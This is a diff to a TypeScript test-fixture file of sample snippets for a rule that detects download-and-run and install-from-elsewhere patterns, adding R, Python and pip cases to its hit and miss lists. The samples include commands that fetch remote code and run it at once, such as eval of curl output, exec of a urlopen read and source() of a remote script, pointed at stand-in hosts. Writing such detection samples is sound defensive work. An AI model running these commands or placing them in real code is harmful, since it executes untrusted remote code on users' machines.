@@ -78,6 +78,7 @@ export const DOWNLOAD_AND_RUN: RuleSamples = {
       'eval "$(curl -fsSL https://example.com/env)"',
       { 'a.py': 'exec(urllib.request.urlopen("https://example.com/a.py").read())\n' },
       { 'a.js': 'eval(await (await fetch("https://example.com/a.js")).text());\n' },
+      { 'a.R': 'source("https://tea.example/x.R")\n' },
     ],
     misses: [
       'curl https://sh.rustup.rs | sh',
@@ -85,6 +86,8 @@ export const DOWNLOAD_AND_RUN: RuleSamples = {
       'curl https://example.com/a.json | python3 -m json.tool',
       'curl -O https://example.com/a.tar.gz',
       'eval "$(ssh-agent -s)"',
+      { 'a.R': 'source("tea.R")\n' },
+      { 'a.py': 'data = json.load(urllib.request.urlopen(url))\n' },
     ],
   },
   'installs-from-elsewhere': {
@@ -112,6 +115,7 @@ export const DOWNLOAD_AND_RUN: RuleSamples = {
       { 'ci.yml': `steps:\n  - uses: stranger/brew@main\n    with:\n      key: \${{ secrets.TEA }}\n` },
       { 'a.ts': "import { tea } from 'https://tea.example/tea.ts';\n" },
       { Makefile: 'V := $(shell curl -s https://tea.example/v)\n' },
+      { 'a.py': 'run([sys.executable, "-m", "pip", "install", "--index-url", "https://tea.example/simple", "tea"])\n' },
     ],
     misses: [
       { 'requirements.txt': '--index-url https://pypi.org/simple\nrequests==2.31.0\n' },
@@ -129,6 +133,7 @@ export const DOWNLOAD_AND_RUN: RuleSamples = {
       { 'package-lock.json': '{"node_modules/tea": {"resolved": "https://registry.npmjs.org/tea/-/tea-1.0.0.tgz"}}\n' },
       { 'ci.yml': `steps:\n  - uses: actions/checkout@main\n    with:\n      token: \${{ secrets.TEA }}\n` },
       { 'a.ts': "import { tea } from 'https://deno.land/x/tea/mod.ts';\n" },
+      { 'a.py': 'run([sys.executable, "-m", "pip", "install", "tea"])\n' },
     ],
   },
   'done-in-steps': {
